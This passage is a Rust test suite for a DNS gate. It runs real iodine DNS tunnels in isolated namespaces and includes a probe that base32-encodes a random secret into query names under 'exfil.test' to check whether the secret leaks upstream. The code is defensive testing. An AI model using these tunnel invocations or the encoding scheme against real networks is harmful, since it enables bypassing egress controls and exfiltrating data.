//! A real DNS tunnel against the gate: iodine (the attacker's client) in the agent's
//! namespace, iodined as the authoritative server of the tunnel domain on the internet
//! side, and the gate (the image's binary, run as the container) between them as the
//! agent's only resolver. Namespaces the test creates and removes; nothing leaves the
//! machine.
//!
//! ```text
//!  agent 10.77.0.2 ──── 10.77.0.1 gate 52.10.0.1 ──── 52.10.0.254 internet
//!   iodine, its tun         (the image's binary;      52.30.0.53: iodined (authoritative for
//!   device 10.99.0.2         upstream udp://           the tunnel domain, tun 10.99.0.1), or
//!                            52.30.0.53:53)             a DNS server recording every name
//! ```
//!
//! The agent's namespace has no route but its own subnet: the only way to 10.99.0.1 is the
//! tunnel, that is DNS through the gate. "Tunnel up" is iodine printing `Connection setup
//! complete` and a ping to iodined's tunnel address answering. iodined runs with `-DD`,
//! which prints every query it receives (`RX: client ..., type N, name ...`): what the
//! tests count as "iodined saw N queries".
//!
//! Needs root, iproute2, util-linux, procps, curl, /dev/net/tun and iodine (the Debian
//! package `iodine`: /usr/sbin/iodine and /usr/sbin/iodined): `#[ignore]`d for a plain
//! `cargo test`; scripts/test.sh installs the tools and runs them (always under CI=true),
//! and when they do run, a missing precondition fails them.

use std::collections::{BTreeMap, BTreeSet};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::path::Path;
use std::process::{Child, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, mpsc};
use std::time::{Duration, Instant};

use hickory_proto::op::{Message, MessageType, OpCode, Query, ResponseCode};
use hickory_proto::rr::rdata::{A, TXT};
use hickory_proto::rr::{Name, RData, Record, RecordType};

use crate::support::container::{self, Netns, RunningGate, link, readable_by_all};
use crate::support::metrics;

const AGENT: Ipv4Addr = Ipv4Addr::new(10, 77, 0, 2);
/// The gate's address on the agent side: the agent's resolver.
const GATE_DNS: Ipv4Addr = Ipv4Addr::new(10, 77, 0, 1);
/// The gate's one upstream: iodined, or the recording server.
const UPSTREAM: Ipv4Addr = Ipv4Addr::new(52, 30, 0, 53);
/// iodined's address on its tun device (the client gets the next one, 10.99.0.2).
const TUNNEL_SERVER: &str = "10.99.0.1";
const PASSWORD: &str = "portcullis-tunnel";
/// How long one attempt to bring the tunnel up may take.
const ATTEMPT: Duration = Duration::from_secs(30);
/// The spec's default `[dns.guard] budget_bytes`.
const BUDGET_BYTES: usize = 1024;

/// Fails the test when something it needs is missing (never passes silently).
fn require() {
    container::require();
    for tool in ["/usr/sbin/iodine", "/usr/sbin/iodined"] {
        assert!(
            Path::new(tool).is_file(),
            "this test cannot run here: {tool} is missing. Install the Debian package \
             `iodine` (scripts/test.sh does)"
        );
    }
    assert!(
        Path::new("/dev/net/tun").exists(),
        "this test cannot run here: no /dev/net/tun (iodine and iodined need a tun device)"
    );
}

/// The three namespaces, linked as in the picture. Fields drop in order: the namespaces
/// go (with every process still in them) before the temporary directories.
struct Topology {
    agent: Netns,
    gate: Netns,
    inet: Netns,
    etc: tempfile::TempDir,
    cache: tempfile::TempDir,
}

impl Topology {
    fn new() -> Topology {
        require();
        let agent = Netns::new("agent");
        let gate = Netns::new("gate");
        let inet = Netns::new("inet");
        link(
            &agent,
            "eth0",
            "10.77.0.2/24",
            &gate,
            "inner",
            "10.77.0.1/24",
        );
        link(
            &gate,
            "outer",
            "52.10.0.1/24",
            &inet,
            "eth0",
            "52.10.0.254/24",
        );
        inet.run(&["ip", "addr", "add", &format!("{UPSTREAM}/32"), "dev", "lo"]);
        gate.run(&["ip", "route", "add", "default", "via", "52.10.0.254"]);
        // The gate binds 53 as non-root, and does not forward, as in the compose stack.
        gate.apply_compose_sysctls();
        Topology {
            agent,
            gate,
            inet,
            etc: tempfile::tempdir().unwrap(),
            cache: tempfile::tempdir().unwrap(),
        }
    }

    /// Writes the configuration (`dns`: the `[dns]` lines after `listen`, sub-tables
    /// included) and `allowlist`, and starts the gate in its namespace as the container
    /// runs it. Its one upstream is 52.30.0.53 over plain UDP; the agent's subnet is the
    /// group `agent`; the lists are one inline entry (nothing is downloaded).
    fn start_gate(&self, dns: &str, allowlist: &str) -> RunningGate {
        let etc = self.etc.path();
        std::fs::write(etc.join("allowlist.toml"), allowlist).unwrap();
        let config = format!(
            r#"allowlist = "allowlist.toml"
[dns]
listen = ["{GATE_DNS}:53"]
{dns}
[upstream]
timeout_ms = 2000
[[upstream.servers]]
name = "internet"
url = "udp://{UPSTREAM}:53"
[groups]
agent = ["10.77.0.0/24"]
[admin]
listen = ["127.0.0.1:9953"]
[proxy]
listen = ["{GATE_DNS}:3128"]
[[lists]]
name = "threats"
inline = "evil.test"
"#
        );
        std::fs::write(etc.join("portcullis.toml"), &config).unwrap();
        readable_by_all(etc);
        let config_path = etc.join("portcullis.toml");
        let lists_dir = self.cache.path().join("lists");
        println!("gate configuration:\n{config}");
        self.gate.start_gate(
            self.cache.path(),
            &[
                ("PORTCULLIS_CONFIG", config_path.to_str().unwrap()),
                ("PORTCULLIS_CACHE_DIR", lists_dir.to_str().unwrap()),
            ],
        )
    }

    /// The gate's /metrics, read inside its namespace (the admin port is loopback only).
    fn metrics(&self) -> String {
        let name = self.gate.name.clone();
        std::thread::spawn(move || {
            Netns::enter_by_name(&name);
            fetch_metrics().expect("the admin listener answers /metrics")
        })
        .join()
        .unwrap()
    }
}

/// `[dns]` lines: `keys` (mode, modes, qtypes), `[dns.guard]` with `guard` when given
/// (else the defaults), and the rate limit off so that it never interferes.
fn dns_config(keys: &str, guard: Option<&str>) -> String {
    let guard = guard.map_or(String::new(), |g| format!("[dns.guard]\n{g}\n"));
    format!("{keys}\n{guard}[dns.rate_limit]\nqueries = 0\n")
}

/// GET /metrics on the admin listener at 127.0.0.1:9953 of the calling thread's namespace.
fn fetch_metrics() -> Option<String> {
    let mut stream =
        TcpStream::connect_timeout(&"127.0.0.1:9953".parse().unwrap(), Duration::from_secs(2))
            .ok()?;
    stream.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
    stream
        .write_all(b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        .ok()?;
    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).ok()?;
    let raw = String::from_utf8_lossy(&raw).into_owned();
    let (head, body) = raw.split_once("\r\n\r\n")?;
    head.starts_with("HTTP/1.1 200").then(|| body.to_owned())
}

/// The sum of the samples of `metric` with every one of `labels` (0 when there are none).
fn metric_sum(text: &str, metric: &str, labels: &[&str]) -> f64 {
    // An empty sum of f64 is -0.0: printed as "-0".
    metrics::metric_sum(text, metric, labels) + 0.0
}

/// The guard's trip series that are not 0, one a line.
fn trip_series(metrics: &str) -> String {
    let lines: Vec<&str> = metrics
        .lines()
        .filter(|l| l.starts_with("portcullis_dns_guard_trips_total{") && !l.ends_with(" 0"))
        .collect();
    lines.join("\n")
}

/// The guard trips the gate counted (`portcullis_dns_guard_trips_total`, every label).
fn trips(metrics: &str) -> f64 {
    metric_sum(metrics, "portcullis_dns_guard_trips_total", &[])
}

/// Polls the gate's /metrics every 50 ms from inside its namespace and keeps when the
/// guard's trip counter first moved. Stopped and joined on drop.
struct TripWatch {
    first_trip: Arc<Mutex<Option<Instant>>>,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl TripWatch {
    fn start(gate: &Netns) -> TripWatch {
        let name = gate.name.clone();
        let first_trip = Arc::new(Mutex::new(None));
        let stop = Arc::new(AtomicBool::new(false));
        let (seen, stopped) = (first_trip.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            Netns::enter_by_name(&name);
            let base = fetch_metrics().map_or(0.0, |m| trips(&m));
            while !stopped.load(Ordering::SeqCst) {
                let now = Instant::now();
                if fetch_metrics().is_some_and(|m| trips(&m) > base) {
                    seen.lock().unwrap().get_or_insert(now);
                }
                std::thread::sleep(Duration::from_millis(50));
            }
        });
        TripWatch {
            first_trip,
            stop,
            thread: Some(thread),
        }
    }

    fn first_trip(&self) -> Option<Instant> {
        *self.first_trip.lock().unwrap()
    }
}

impl Drop for TripWatch {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// A program running in a namespace, its stdout and stderr collected line by line with
/// the time each arrived. Killed on drop.
struct Spawned {
    what: String,
    child: Child,
    lines: mpsc::Receiver<(Instant, String)>,
    seen: Vec<(Instant, String)>,
}

impl Spawned {
    fn start(ns: &Netns, program: &str, args: &[&str]) -> Spawned {
        let mut child = ns
            .command(program)
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap_or_else(|e| panic!("start {program}: {e}"));
        let (tx, lines) = mpsc::channel();
        let stdout: Box<dyn Read + Send> = Box::new(child.stdout.take().unwrap());
        let stderr: Box<dyn Read + Send> = Box::new(child.stderr.take().unwrap());
        for stream in [stdout, stderr] {
            let tx = tx.clone();
            std::thread::spawn(move || {
                let mut reader = BufReader::new(stream);
                let mut line = Vec::new();
                while reader.read_until(b'\n', &mut line).is_ok_and(|n| n > 0) {
                    let text = String::from_utf8_lossy(&line).trim_end().to_owned();
                    let _ = tx.send((Instant::now(), text));
                    line.clear();
                }
            });
        }
        Spawned {
            what: format!("{program} {}", args.join(" ")),
            child,
            lines,
            seen: Vec::new(),
        }
    }

    /// Every line so far.
    fn lines(&mut self) -> &[(Instant, String)] {
        while let Ok(line) = self.lines.try_recv() {
            self.seen.push(line);
        }
        &self.seen
    }

    /// When a line containing `needle` arrived, if one has.
    fn saw(&mut self, needle: &str) -> Option<Instant> {
        self.lines()
            .iter()
            .find(|(_, l)| l.contains(needle))
            .map(|(at, _)| *at)
    }

    /// Waits up to `limit` for a line containing `needle`.
    fn wait_for(&mut self, needle: &str, limit: Duration) -> Option<Instant> {
        let deadline = Instant::now() + limit;
        loop {
            if let Some(at) = self.saw(needle) {
                return Some(at);
            }
            if Instant::now() >= deadline || self.exited().is_some() {
                return self.saw(needle);
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    /// The exit status, once it has ended.
    fn exited(&mut self) -> Option<std::process::ExitStatus> {
        self.child.try_wait().ok().flatten()
    }

    /// Kills it and returns every line it wrote (the reader threads end at EOF).
    fn finish(&mut self) -> Vec<(Instant, String)> {
        let _ = self.child.kill();
        let _ = self.child.wait();
        let deadline = Instant::now() + Duration::from_secs(2);
        while let Ok(line) = self
            .lines
            .recv_timeout(deadline.saturating_duration_since(Instant::now()))
        {
            self.seen.push(line);
        }
        self.seen.clone()
    }

    fn log(&mut self) -> String {
        let what = self.what.clone();
        let lines: Vec<String> = self.lines().iter().map(|(_, l)| l.clone()).collect();
        format!("$ {what}\n{}", lines.join("\n"))
    }
}

impl Drop for Spawned {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A query iodined printed (`RX: client IP, type N, name NAME`), and when.
struct Received {
    at: Instant,
    qtype: u16,
    name: String,
}

fn parse_rx(at: Instant, line: &str) -> Option<Received> {
    let rest = line.strip_prefix("RX: client ")?;
    let (_, rest) = rest.split_once(", type ")?;
    let (qtype, name) = rest.split_once(", name ")?;
    Some(Received {
        at,
        qtype: qtype.parse().ok()?,
        name: name.to_owned(),
    })
}

/// What one attempt to bring the tunnel up gave.
struct Attempt {
    /// Since iodine started: when it printed `Connection setup complete`.
    setup: Option<Duration>,
    /// Pings through the tunnel after setup: (since iodine started, answered).
    pings: Vec<(Duration, bool)>,
    /// Since iodine started: when the gate's guard trip counter was first seen moved.
    trip: Option<Duration>,
    /// Every query iodined received, with its time since iodine started.
    received: Vec<(Duration, u16, String)>,
    /// iodine's exit status, if it gave up by itself.
    client_exit: Option<String>,
    client_log: String,
    server_log: String,
}

impl Attempt {
    fn up(&self) -> bool {
        self.setup.is_some() && self.pings.iter().any(|p| p.1)
    }

    /// The time of the first ping that answered.
    fn first_ping(&self) -> Option<Duration> {
        self.pings.iter().find(|p| p.1).map(|p| p.0)
    }

    /// Queries iodined received for names under `domain`.
    fn tunnel_queries(&self, domain: &str) -> usize {
        let suffix = format!(".{domain}");
        self.received
            .iter()
            .filter(|(_, _, n)| n.to_ascii_lowercase().ends_with(&suffix))
            .count()
    }

    /// Queries iodined received after `since`.
    fn queries_after(&self, since: Duration) -> usize {
        self.received
            .iter()
            .filter(|(at, _, _)| *at > since)
            .count()
    }

    /// Pings through the tunnel that answered after `since`.
    fn pings_after(&self, since: Duration) -> usize {
        self.pings.iter().filter(|p| p.1 && p.0 > since).count()
    }

    fn qtypes(&self) -> BTreeMap<u16, usize> {
        let mut types = BTreeMap::new();
        for (_, qtype, _) in &self.received {
            *types.entry(*qtype).or_insert(0) += 1;
        }
        types
    }

    fn summary(&self, domain: &str) -> String {
        let pings_ok = self.pings.iter().filter(|p| p.1).count();
        let until_setup = self
            .setup
            .map(|setup| self.received.len() - self.queries_after(setup));
        format!(
            "iodine printed `Connection setup complete` at {:?} (iodined had received {until_setup:?} queries); first ping \
             answered: {:?}; pings answered {pings_ok}/{}; guard trip seen: {:?}; iodined \
             received {} queries ({} under {domain}; by qtype {:?}); iodine exit: {}",
            self.setup,
            self.first_ping(),
            self.pings.len(),
            self.trip,
            self.received.len(),
            self.tunnel_queries(domain),
            self.qtypes(),
            self.client_exit
                .as_deref()
                .unwrap_or("still running, killed"),
        )
    }

    fn logs(&self) -> String {
        let tail: Vec<&str> = self.server_log.lines().rev().take(40).collect();
        let tail: Vec<&str> = tail.into_iter().rev().collect();
        format!(
            "{}\n--- iodined (last 40 lines) ---\n{}",
            self.client_log,
            tail.join("\n")
        )
    }
}

/// Runs iodined for `domain` in the internet namespace and iodine in the agent's, with the
/// gate as its resolver, for up to `window`. Once the setup is complete it pings iodined's
/// tunnel address about once a second: until the first answer when `until_first_ping`,
/// else until the window ends. Both processes are killed at the end.
fn attempt_tunnel(
    topo: &Topology,
    domain: &str,
    window: Duration,
    until_first_ping: bool,
) -> Attempt {
    let watch = TripWatch::start(&topo.gate);
    let upstream = UPSTREAM.to_string();
    let mut server = Spawned::start(
        &topo.inet,
        "iodined",
        &[
            "-f",
            "-c",
            "-DD",
            "-l",
            &upstream,
            "-P",
            PASSWORD,
            &format!("{TUNNEL_SERVER}/27"),
            domain,
        ],
    );
    assert!(
        server
            .wait_for("Listening to dns for domain", Duration::from_secs(10))
            .is_some(),
        "iodined did not start:\n{}",
        server.log()
    );
    let started = Instant::now();
    let mut client = Spawned::start(
        &topo.agent,
        "iodine",
        &["-f", "-r", "-P", PASSWORD, &GATE_DNS.to_string(), domain],
    );
    let deadline = started + window;
    let mut setup = None;
    let mut pings = Vec::new();
    let mut client_exit = None;
    while Instant::now() < deadline {
        if setup.is_none() {
            setup = client
                .saw("Connection setup complete")
                .map(|at| at.duration_since(started));
        }
        if let Some(status) = client.exited() {
            client_exit = Some(status.to_string());
            break;
        }
        if setup.is_some() {
            let at = started.elapsed();
            let answered = topo
                .agent
                .command("ping")
                .args(["-c", "1", "-W", "1", TUNNEL_SERVER])
                .output()
                .unwrap()
                .status
                .success();
            pings.push((at, answered));
            if answered && until_first_ping {
                break;
            }
            std::thread::sleep(Duration::from_millis(500));
        } else {
            std::thread::sleep(Duration::from_millis(100));
        }
    }
    client.finish();
    let client_log = client.log();
    let server_lines = server.finish();
    let server_log = server.log();
    let received = server_lines
        .iter()
        .filter_map(|(at, line)| parse_rx(*at, line))
        .map(|r| (r.at.saturating_duration_since(started), r.qtype, r.name))
        .collect();
    let trip = watch
        .first_trip()
        .map(|t| t.saturating_duration_since(started));
    Attempt {
        setup,
        pings,
        trip,
        received,
        client_exit,
        client_log,
        server_log,
    }
}

/// The gate's log and /metrics lines about DNS, for failure messages.
fn gate_state(topo: &Topology, gate: &mut RunningGate) -> String {
    let metrics = topo.metrics();
    let dns: Vec<&str> = metrics
        .lines()
        .filter(|l| l.starts_with("portcullis_dns_") || l.starts_with("portcullis_upstream"))
        .filter(|l| !l.ends_with(" 0") && !l.contains("_bucket{"))
        .collect();
    let log: Vec<&String> = gate.logs().iter().rev().take(20).collect();
    let log: Vec<String> = log
        .into_iter()
        .rev()
        .map(|l| l.chars().take(400).collect())
        .collect();
    format!(
        "--- gate metrics (not 0) ---\n{}\n--- gate log (last 20 lines, cut at 400 characters) ---\n{}",
        dns.join("\n"),
        log.join("\n")
    )
}

#[test]
#[ignore = "needs root, iproute2, util-linux, procps, curl, iodine, /dev/net/tun: scripts/test.sh runs it"]
fn a_tunnel_comes_up_with_the_guard_off() {
    let topo = Topology::new();
    let domain = "t.tunnel.test";
    let mut gate = topo.start_gate(
        &dns_config("mode = \"public\"", Some("action = \"off\"")),
        "",
    );
    let attempt = attempt_tunnel(&topo, domain, ATTEMPT, true);
    println!(
        "guard off, public mode: {}\n{}",
        attempt.summary(domain),
        attempt.client_log
    );
    assert!(
        attempt.up(),
        "with the guard off the tunnel must come up within {ATTEMPT:?} (else the other \
         tests prove nothing): {}\n{}\n{}",
        attempt.summary(domain),
        attempt.logs(),
        gate_state(&topo, &mut gate)
    );
    let trips = trips(&topo.metrics());
    assert_eq!(trips, 0.0, "the guard is off, yet it tripped");
}

#[test]
#[ignore = "needs root, iproute2, util-linux, procps, curl, iodine, /dev/net/tun: scripts/test.sh runs it"]
fn allowlist_mode_never_asks_for_the_tunnel_domain() {
    let topo = Topology::new();
    let domain = "t.tunnel.test";
    let mut gate = topo.start_gate(
        &dns_config("mode = \"public\"\nmodes = { agent = \"allowlist\" }", None),
        "[[allow]]\nhost = \"allowed.test\"\n",
    );
    let attempt = attempt_tunnel(&topo, domain, ATTEMPT, false);
    let metrics = topo.metrics();
    let not_allowed = metric_sum(
        &metrics,
        "portcullis_dns_refusals_total",
        &["group=\"agent\"", "reason=\"not_allowed\""],
    );
    println!(
        "allowlist mode, tunnel domain not allowed: {}; refusals not_allowed: {not_allowed}",
        attempt.summary(domain)
    );
    let state = gate_state(&topo, &mut gate);
    assert!(
        !attempt.up() && attempt.received.is_empty(),
        "the tunnel domain is on no allow rule: iodined must see no query at all: {}\n{}\n{state}",
        attempt.summary(domain),
        attempt.logs()
    );
    assert!(
        not_allowed > 0.0,
        "the gate must count its refusals as \
         portcullis_dns_refusals_total{{group=\"agent\",reason=\"not_allowed\"}}\n{state}"
    );
}

#[test]
#[ignore = "needs root, iproute2, util-linux, procps, curl, iodine, /dev/net/tun: scripts/test.sh runs it"]
fn the_guard_stops_a_tunnel_under_an_allowed_wildcard() {
    let topo = Topology::new();
    let domain = "tunnel.allowed.test";
    let mut gate = topo.start_gate(
        &dns_config("mode = \"public\"\nmodes = { agent = \"allowlist\" }", None),
        "[[allow]]\nhost = \"*.tunnel.allowed.test\"\n",
    );
    let attempt = attempt_tunnel(&topo, domain, ATTEMPT, false);
    let metrics = topo.metrics();
    let tripped = metric_sum(
        &metrics,
        "portcullis_dns_guard_trips_total",
        &["group=\"agent\""],
    );
    let blocked = metric_sum(
        &metrics,
        "portcullis_dns_guard_blocked_total",
        &["group=\"agent\""],
    );
    println!(
        "allowlist mode, *.{domain} allowed, default guard: {}; guard trips {tripped}, \
         blocked {blocked}",
        attempt.summary(domain)
    );
    println!("{}", trip_series(&metrics));
    let state = gate_state(&topo, &mut gate);
    assert!(
        !attempt.up(),
        "the guard must stop a tunnel under an allowed wildcard: {}\n{}\n{state}",
        attempt.summary(domain),
        attempt.logs()
    );
    assert!(
        tripped > 0.0,
        "the guard (not something else) must be what stopped it: no trip counted\n{state}"
    );
}

/// At most this many queries may reach iodined after the gate's trip counter was seen
/// moving (queries already on their way when it tripped).
const AFTER_TRIP: usize = 2;
/// At most this many queries may reach iodined in the whole attempt when the guard
/// blocks. With the guard off, iodine's setup takes 21 queries (6 s) and about 160 reach
/// iodined in 30 s; the guard's budget (1 KiB of fresh labels, encoded ones counted
/// double) is spent on the setup's long probe names, so the tunnel is cut before its
/// setup is through.
const MOST_QUERIES_BLOCKED: usize = 16;

#[test]
#[ignore = "needs root, iproute2, util-linux, procps, curl, iodine, /dev/net/tun: scripts/test.sh runs it"]
fn the_guard_blocks_a_tunnel_in_public_mode() {
    let topo = Topology::new();
    let domain = "t.tunnel.test";
    let mut gate = topo.start_gate(
        &dns_config("mode = \"public\"", Some("action = \"block\"")),
        "",
    );
    let attempt = attempt_tunnel(&topo, domain, ATTEMPT, false);
    let metrics = topo.metrics();
    let tripped = trips(&metrics);
    let blocked = metric_sum(&metrics, "portcullis_dns_guard_blocked_total", &[]);
    let trip = attempt.trip;
    let before_trip = trip.map(|t| attempt.received.len() - attempt.queries_after(t));
    let after_trip = trip.map(|t| attempt.queries_after(t));
    println!(
        "public mode, guard block: {}; guard trips {tripped}, blocked {blocked}; iodined \
         queries before the trip was seen: {before_trip:?}, after: {after_trip:?}",
        attempt.summary(domain)
    );
    println!("{}", trip_series(&metrics));
    let state = gate_state(&topo, &mut gate);
    let Some(trip) = trip else {
        panic!(
            "the guard never tripped (portcullis_dns_guard_trips_total did not move): {}\n{}\n{state}",
            attempt.summary(domain),
            attempt.logs()
        );
    };
    assert!(
        tripped > 0.0 && blocked > 0.0,
        "a trip in block mode must refuse the queries that follow\n{state}"
    );
    assert_eq!(
        attempt.pings_after(trip),
        0,
        "the tunnel still carried pings after the guard tripped: {}\n{}\n{state}",
        attempt.summary(domain),
        attempt.logs()
    );
    assert!(
        attempt.received.len() <= MOST_QUERIES_BLOCKED,
        "the tunnel must be cut within {MOST_QUERIES_BLOCKED} queries: iodined saw {}: {}\n{state}",
        attempt.received.len(),
        attempt.summary(domain)
    );
    assert!(
        attempt.queries_after(trip) <= AFTER_TRIP,
        "the tunnel must be cut when the guard trips: iodined saw {} queries after it \
         (at most {AFTER_TRIP}): {}\n{state}",
        attempt.queries_after(trip),
        attempt.summary(domain)
    );
}

/// Public mode with the default guard (`auto`: log there): the tunnel comes up, and the
/// gate says so in the trip counter (action `log`), which is what an operator of a
/// public-mode group gets.
#[test]
#[ignore = "needs root, iproute2, util-linux, procps, curl, iodine, /dev/net/tun: scripts/test.sh runs it"]
fn the_default_guard_in_public_mode_logs_the_tunnel() {
    let topo = Topology::new();
    let domain = "t.tunnel.test";
    let mut gate = topo.start_gate(&dns_config("mode = \"public\"", None), "");
    let attempt = attempt_tunnel(&topo, domain, ATTEMPT, true);
    let metrics = topo.metrics();
    let logged = metric_sum(
        &metrics,
        "portcullis_dns_guard_trips_total",
        &["group=\"agent\"", "action=\"log\""],
    );
    println!(
        "public mode, default guard: {}; trips with action log: {logged}\n{}",
        attempt.summary(domain),
        trip_series(&metrics)
    );
    let state = gate_state(&topo, &mut gate);
    assert!(
        attempt.up(),
        "in public mode the default guard only logs: the tunnel must come up: {}\n{}\n{state}",
        attempt.summary(domain),
        attempt.logs()
    );
    assert!(
        logged > 0.0,
        "the tunnel must be counted as a trip with action=\"log\"\n{state}"
    );
}

// --- the secret-counting probe ---

const BASE32: &[u8; 32] = b"abcdefghijklmnopqrstuvwxyz234567";
/// Secret bytes per query name: 35 bytes are 56 base32 characters, one label.
const CHUNK: usize = 35;
const SECRET_LEN: usize = 2048;

fn base32(bytes: &[u8]) -> String {
    let mut out = String::new();
    let (mut acc, mut bits) = (0u32, 0u32);
    for &b in bytes {
        acc = (acc << 8) | u32::from(b);
        bits += 8;
        while bits >= 5 {
            bits -= 5;
            out.push(BASE32[((acc >> bits) & 31) as usize] as char);
        }
    }
    if bits > 0 {
        out.push(BASE32[((acc << (5 - bits)) & 31) as usize] as char);
    }
    out
}

fn unbase32(text: &str) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    let (mut acc, mut bits) = (0u32, 0u32);
    for c in text.bytes() {
        let v = BASE32.iter().position(|&a| a == c.to_ascii_lowercase())? as u32;
        acc = (acc << 5) | v;
        bits += 5;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
        }
    }
    Some(out)
}

/// The query names that carry `secret` under `suffix`: `<chunk>.<seq>.<suffix>`.
fn secret_names(secret: &[u8], suffix: &str) -> Vec<String> {
    secret
        .chunks(CHUNK)
        .enumerate()
        .map(|(seq, chunk)| format!("{}.{seq}.{suffix}", base32(chunk)))
        .collect()
}

/// How many distinct bytes of `secret` the names under `suffix` in `seen` carry.
fn secret_bytes_in(secret: &[u8], suffix: &str, seen: &[(String, RecordType)]) -> usize {
    let tail = format!(".{suffix}");
    let mut got = BTreeSet::new();
    for (name, _) in seen {
        let name = name.trim_end_matches('.').to_ascii_lowercase();
        let Some(labels) = name.strip_suffix(&tail) else {
            continue;
        };
        let Some((chunk, seq)) = labels.rsplit_once('.') else {
            continue;
        };
        let (Some(bytes), Ok(seq)) = (unbase32(chunk), seq.parse::<usize>()) else {
            continue;
        };
        for (i, b) in bytes.iter().enumerate() {
            let at = seq * CHUNK + i;
            if secret.get(at) == Some(b) {
                got.insert(at);
            }
        }
    }
    got.len()
}

/// A DNS server on 52.30.0.53:53 in the internet namespace that records every question
/// it gets and answers it (A 52.20.0.2, TXT "ok", else no data). Stopped on drop.
struct Recorder {
    seen: Arc<Mutex<Vec<(String, RecordType)>>>,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Recorder {
    fn start(ns: &Netns) -> Recorder {
        let name = ns.name.clone();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (log, stopped) = (seen.clone(), stop.clone());
        let (tx, rx) = mpsc::channel();
        let thread = std::thread::spawn(move || {
            Netns::enter_by_name(&name);
            let socket = UdpSocket::bind((UPSTREAM, 53)).unwrap();
            socket
                .set_read_timeout(Some(Duration::from_millis(100)))
                .unwrap();
            tx.send(()).unwrap();
            let mut buf = [0u8; 4096];
            while !stopped.load(Ordering::SeqCst) {
                let Ok((n, peer)) = socket.recv_from(&mut buf) else {
                    continue;
                };
                let Ok(query) = Message::from_vec(&buf[..n]) else {
                    continue;
                };
                let mut reply =
                    Message::new(query.metadata.id, MessageType::Response, OpCode::Query);
                reply.metadata.recursion_desired = query.metadata.recursion_desired;
                reply.metadata.recursion_available = true;
                reply.metadata.authoritative = true;
                for q in &query.queries {
                    log.lock()
                        .unwrap()
                        .push((q.name().to_ascii(), q.query_type()));
                    let data = match q.query_type() {
                        RecordType::A => Some(RData::A(A(Ipv4Addr::new(52, 20, 0, 2)))),
                        RecordType::TXT => Some(RData::TXT(TXT::new(vec!["ok".into()]))),
                        _ => None,
                    };
                    if let Some(data) = data {
                        reply
                            .answers
                            .push(Record::from_rdata(q.name().clone(), 60, data));
                    }
                    reply.queries.push(q.clone());
                }
                if let Ok(bytes) = reply.to_vec() {
                    let _ = socket.send_to(&bytes, peer);
                }
            }
        });
        rx.recv_timeout(Duration::from_secs(5))
            .expect("the recording server is up");
        Recorder {
            seen,
            stop,
            thread: Some(thread),
        }
    }

    fn seen(&self) -> Vec<(String, RecordType)> {
        self.seen.lock().unwrap().clone()
    }
}

impl Drop for Recorder {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// Sends one query per name from the agent's namespace to the gate, one at a time, each
/// waiting up to 3 s for its answer: how many got each response code.
fn send_queries(agent: &Netns, names: &[String], qtype: RecordType) -> BTreeMap<String, usize> {
    let ns = agent.name.clone();
    let names = names.to_vec();
    std::thread::spawn(move || {
        Netns::enter_by_name(&ns);
        let socket = UdpSocket::bind((AGENT, 0)).unwrap();
        socket
            .set_read_timeout(Some(Duration::from_millis(200)))
            .unwrap();
        let gate = SocketAddr::from((GATE_DNS, 53));
        let mut codes = BTreeMap::new();
        let mut buf = [0u8; 4096];
        for (i, name) in names.iter().enumerate() {
            let id = i as u16 ^ 0x5a5a;
            let mut msg = Message::new(id, MessageType::Query, OpCode::Query);
            msg.metadata.recursion_desired = true;
            msg.queries
                .push(Query::query(Name::from_ascii(name).unwrap(), qtype));
            socket.send_to(&msg.to_vec().unwrap(), gate).unwrap();
            let deadline = Instant::now() + Duration::from_secs(3);
            let mut code = "no answer".to_owned();
            while Instant::now() < deadline {
                let Ok((n, _)) = socket.recv_from(&mut buf) else {
                    continue;
                };
                match Message::from_vec(&buf[..n]) {
                    Ok(reply) if reply.metadata.id == id => {
                        code = match reply.metadata.response_code {
                            ResponseCode::NoError if reply.answers.is_empty() => {
                                "NOERROR (no data)".to_owned()
                            }
                            rcode => rcode.to_string(),
                        };
                        break;
                    }
                    _ => continue,
                }
            }
            *codes.entry(code).or_insert(0) += 1;
        }
        codes
    })
    .join()
    .unwrap()
}

/// A random secret, from the kernel.
fn random_secret(len: usize) -> Vec<u8> {
    let mut secret = vec![0u8; len];
    std::fs::File::open("/dev/urandom")
        .and_then(|mut f| f.read_exact(&mut secret))
        .unwrap();
    secret
}

#[test]
#[ignore = "needs root, iproute2, util-linux, procps, curl, iodine, /dev/net/tun: scripts/test.sh runs it"]
fn a_secret_in_query_names_does_not_reach_the_upstream() {
    let topo = Topology::new();
    let recorder = Recorder::start(&topo.inet);
    let mut gate = topo.start_gate(
        &dns_config(
            "mode = \"public\"\nmodes = { agent = \"allowlist\" }\n\
             qtypes = { agent = [\"A\", \"AAAA\", \"CNAME\", \"HTTPS\"] }",
            None,
        ),
        "[[allow]]\nhost = \"*.tunnel.allowed.test\"\n\
         [[allow]]\nhost = \"*.tunnel.permitted.test\"\n",
    );
    let secret = random_secret(SECRET_LEN);
    // (path, names' suffix, query type, most secret bytes that may reach the upstream).
    // Each path has its own registered domain, so that one path's guard budget is not
    // spent by another; (c) runs before (b) for the same reason.
    let paths: [(&str, &str, RecordType, usize); 3] = [
        ("(a) A, unlisted name", "exfil.test", RecordType::A, 0),
        (
            "(c) TXT, allowed wildcard",
